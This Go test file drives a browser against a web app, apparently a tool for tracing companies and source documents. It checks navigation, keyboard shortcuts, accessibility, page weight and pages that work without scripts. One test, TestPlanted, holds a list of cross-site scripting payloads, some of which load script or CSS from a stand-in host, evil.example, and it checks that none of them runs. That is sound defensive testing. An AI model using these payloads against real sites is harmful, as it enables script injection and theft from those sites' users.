package web_test

import (
	"fmt"
	"net/url"
	"strings"
	"testing"
	"time"

	"overt/internal/hometest"
	"overt/web/webtest"
)

// From a value to the passage it stands in: one press, beside the page, and closed by
// one key; and each is a page by itself.
func TestPassageBeside(t *testing.T) {
	s := webtest.Serve(t, webtest.Filled(t))
	s.Enter(t)
	b := s.Browse(t)
	b.Open("/e/" + s.Entity(t, "Four Points Technology") + "/facts")
	before := b.Presses()
	b.Click(".facts a.chip")
	b.Wait("#aside mark, #aside q")
	if n := b.Presses() - before; n != 1 {
		t.Errorf("%d presses from a value to its source, want 1", n)
	}
	if b.Path() != "/e/"+s.Entity(t, "Four Points Technology")+"/facts" {
		t.Errorf("the page went to %s", b.Path())
	}
	if at := webtest.Eval[string](b, "document.activeElement.tagName"); at != "H2" {
		t.Errorf("the focus is at %s, not at what was opened", at)
	}
	for _, line := range b.Axe() {
		t.Errorf("with a passage beside: %s", line)
	}
	b.Screenshot("beside")
	b.Key("Escape")
	b.Until(`!document.querySelector("#aside").firstElementChild`)
	if chip := webtest.Eval[bool](b, `document.activeElement.classList.contains("chip")`); !chip {
		t.Error("the focus does not go back to the chip")
	}
	// From a hit to its passage: one press.
	b.Open("/search?q=capacity")
	before = b.Presses()
	b.Click(".hit h2 a")
	b.Wait("mark#quote-here")
	if n := b.Presses() - before; n != 1 {
		t.Errorf("%d presses from a hit to its passage, want 1", n)
	}
	if text := webtest.Eval[string](b, `document.querySelector("mark#quote-here").textContent`); text != "capacity" {
		t.Errorf("%q is marked", text)
	}
	for _, line := range b.Wrong() {
		t.Error(line)
	}
}

// All of it goes by keyboard alone, and single keys can be switched off.
func TestKeys(t *testing.T) {
	s := webtest.Serve(t, webtest.Filled(t))
	s.Enter(t)
	b := s.Browse(t)
	b.Key("/")
	b.Type("hosting")
	b.Key("Enter")
	b.Wait("html[data-ready] .hit")
	b.Key("j")
	b.Until(`document.querySelectorAll(".hit.at").length == 1 && document.querySelector("#aside mark")`)
	b.Key("j")
	b.Until(`document.querySelectorAll(".hit")[1].classList.contains("at")`)
	b.Key("?")
	b.Wait("dialog#keys[open]")
	b.Key("Escape")
	b.Until(`!document.querySelector("dialog[open]")`)
	b.Key("g")
	b.Key("d")
	b.At("/")
	b.Key("g")
	b.Key("s")
	b.At("/search")
	b.Key("u")
	b.At("/")

	b.Ctrl("k")
	b.Wait("overt-palette dialog[open]")
	b.Type("sea")
	b.Until(`document.querySelectorAll("overt-palette [role=option]").length > 0`)
	for _, line := range b.Axe() {
		t.Errorf("with the palette open: %s", line)
	}
	b.Screenshot("palette")
	b.Key("Enter")
	b.At("/search")

	b.Open("/session")
	b.Click(`input[name="keys"][value="off"]`)
	b.Click(`form[action="/session"] button`)
	b.Wait(`html[data-keys="off"]`)
	b.Open("/")
	b.Key("g")
	b.Key("s")
	b.Key("?")
	if at := b.Path(); at != "/" {
		t.Errorf("keys are off and led to %s", at)
	}
	for _, line := range b.Wrong() {
		t.Error(line)
	}
}

// planted are what hostile sources hold.
var planted = []string{
	`<img src=x onerror="planted.push('img')">`, `"><script>planted.push('script')</script>`, `<svg/onload=planted.push('svg')>`, `' onmouseover='planted.push(1)' x='`,
	`javascript:planted.push('url')`, `</title><script src=//evil.example/x.js></script>`, `<div hx-get="//evil.example/" hx-trigger="load">`, `<iframe srcdoc="<script>parent.planted.push(1)</script>">`,
	`<a href="javascript:planted.push('a')">press</a>`, `<style>@import url(//evil.example/x.css)</style>`, `<form action=//evil.example><button>x</button></form>`,
	`<math><mtext></form><form><mglyph><style></math><img src onerror=planted.push('mxss')>`, `{{constructor.constructor('planted.push(1)')()}}`, "\u202e<script>planted.push('bidi')</script>", `<template><script>planted.push('t')</script></template>`,
}

// Nothing that a source holds runs, and nothing leaves the machine.
func TestPlanted(t *testing.T) {
	h := hometest.Memory(t)
	var lines, ids []string
	texts := map[string]string{}
	for i, p := range planted {
		id := fmt.Sprintf("p%d %s", i, p)
		ids = append(ids, id)
		lines = append(lines, fmt.Sprintf(`{"id":%q,"schema":"Company","properties":{"name":[%q],"alias":["harbour %d"],"website":[%q],"registrationNumber":[%q],"summary":[%q],"parent":[%q]}}`, id, p, i, "http://evil.example/"+p, p, p, "p0 "+planted[0]))
		texts[fmt.Sprintf("%d %s.txt", i, strings.ReplaceAll(p, "/", "_"))] = "title " + p + "\nharbour " + p + " harbour"
	}
	for i, line := range lines {
		lines[i] = strings.NewReplacer(`\x`, `\u00`, `\u202e`, "\u202e").Replace(line)
	}
	webtest.Entities(t, h, "hostile", lines...)
	webtest.Documents(t, h, "papers", texts)
	s := webtest.Serve(t, h)
	s.Enter(t)
	b := s.Browse(t)
	pages := []string{"/trace?view=net&from=" + url.QueryEscape(ids[1]), "/trace?from=" + url.QueryEscape(ids[1]) + "&to=" + url.QueryEscape(ids[0]), "/trace?view=flow&from=" + url.QueryEscape(planted[1]), "/trace?view=reach&from=" + url.QueryEscape(ids[2]), "/", "/search?q=harbour", "/search?q=" + url.QueryEscape(planted[1]), "/search?q=harbour&dataset=" + url.QueryEscape(planted[1]), "/find?name=" + url.QueryEscape(planted[0]), "/nowhere/" + url.PathEscape(planted[1]), s.Passage(t, "harbour")}
	for i, id := range ids {
		views := []string{"facts", "value?prop=name&is=" + url.QueryEscape(planted[i])}
		if i == 0 {
			views = append(views, "links", "history", "mentions", "money", "reach", "conflict")
		}
		for _, v := range views {
			pages = append(pages, "/e/"+url.PathEscape(id)+"/"+v)
		}
	}
	for i, p := range pages {
		if r := s.Get(t, p); r.Status >= 500 {
			t.Errorf("%s: %d", p, r.Status)
		}
		b.Open(p)
		if i < 13 && webtest.Eval[bool](b, `!!document.querySelector("a.chip, [data-preview]")`) {
			b.Click("a.chip, [data-preview]")
			b.Until(`document.querySelector("#aside").firstElementChild`)
		}
		if n := webtest.Eval[int](b, `document.querySelectorAll("main script, main iframe, main style, main img, main svg[onload], [onerror], [onmouseover], a[href^='javascript'], main form[action*='evil']").length`); n > 0 {
			t.Errorf("%s: %d planted elements became elements", p, n)
		}
	}
	for _, line := range b.Wrong() {
		t.Error(line)
	}
}

// A page loads within its budget of bytes, in KB of 1,000: gzip, and fonts as they are;
// and of requests. How long it took is told alone. Documents have their picture beside
// it, which comes once.
func TestBytes(t *testing.T) {
	s := webtest.Serve(t, webtest.Filled(t))
	s.Enter(t)
	ice, c := s.Entity(t, "ICE"), begun(t, s)
	b := s.Browse(t)
	for _, p := range []string{
		"/", "/search?q=hosting", "/e/" + ice + "/facts", "/e/" + ice + "/links", "/e/" + ice + "/money", "/e/" + ice + "/history", s.Row(t, ice),
		"/trace?from=ICE&to=Amazon+Web+Services", "/trace?from=ICE&view=flow", "/cases", c + "/board", "/sources", "/audit", "/session", "/d/" + s.Entity(t, "Task order 0017") + "?view=text",
	} {
		b.Fresh()
		begin := time.Now()
		b.Open(p)
		b.Until(`document.readyState == "complete" && document.fonts.status == "loaded"`)
		all, fonts, requests := b.Loaded()
		if rest := all - fonts; rest > 60_000 || all > 155_000 || fonts == 0 || requests > 12 {
			t.Errorf("%s loads %d bytes and %d of fonts with %d requests; the budget is 60,000, 155,000 with fonts, and 12", p, rest, fonts, requests)
		} else {
			t.Logf("%s loads %d bytes and %d of fonts with %d requests in %v", p, rest, fonts, requests, time.Since(begin).Round(time.Millisecond))
		}
	}
}

// Without a script every link leads to a page that is whole.
func TestWithoutScript(t *testing.T) {
	s := webtest.Serve(t, webtest.Filled(t))
	s.Enter(t)
	row := s.Row(t, s.Entity(t, "ICE"))
	whole, part := s.Get(t, row), s.Get(t, row, "HX-Request", "true")
	if !strings.Contains(whole.Body, "<html") || !strings.Contains(whole.Body, "<h1>") || !strings.Contains(whole.Body, `<mark id="quote">`) {
		t.Error("a place is no page by itself")
	}
	if strings.Contains(part.Body, "<html") || !strings.Contains(part.Body, "<h2 tabindex") || !strings.Contains(part.Body, `<mark id="quote">`) {
		t.Errorf("a place beside a page is %s", part.Body)
	}
}
